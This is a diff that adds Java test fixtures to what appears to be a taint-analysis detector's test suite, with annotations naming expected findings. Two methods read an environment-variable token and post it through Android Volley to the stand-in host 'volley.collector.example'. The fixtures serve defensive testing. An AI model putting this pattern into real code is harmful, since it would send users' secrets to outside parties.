@@ -321,3 +321,33 @@ class Device {
         rest.postForObject(U, manager.getPhoneNumber(1) == null, String.class); //~ ok
     }
 }
+
+class Queued {
+    void params(com.android.volley.RequestQueue queue) {
+        final String token = System.getenv("T"); //~ source(ENVIRONMENT) vq1
+        queue.add(new StringRequest(1, "https://volley.collector.example/", text -> {}, null) { //~ sink(egress.http) vq1, finding(environment-exfiltration, traced) vq1, capability(NETWORK)
+            protected java.util.Map<String, String> getParams() {
+                java.util.Map<String, String> params = new java.util.HashMap<>();
+                params.put("t", token);
+                return params;
+            }
+        });
+    }
+
+    void made(android.content.Context context) {
+        final String token = System.getenv("T"); //~ source(ENVIRONMENT) vq2
+        com.android.volley.toolbox.Volley.newRequestQueue(context).add(new StringRequest(1, "https://volley.collector.example/", text -> {}, null) { //~ sink(egress.http) vq2, finding(environment-exfiltration, traced) vq2, capability(NETWORK)
+            public byte[] getBody() {
+                return token.getBytes();
+            }
+        });
+    }
+
+    void quiet(android.content.Context context) {
+        com.android.volley.toolbox.Volley.newRequestQueue(context).add(new StringRequest(1, "https://volley.collector.example/", text -> {}, null) { //~ ok
+            public byte[] getBody() {
+                return "nothing".getBytes();
+            }
+        });
+    }
+}
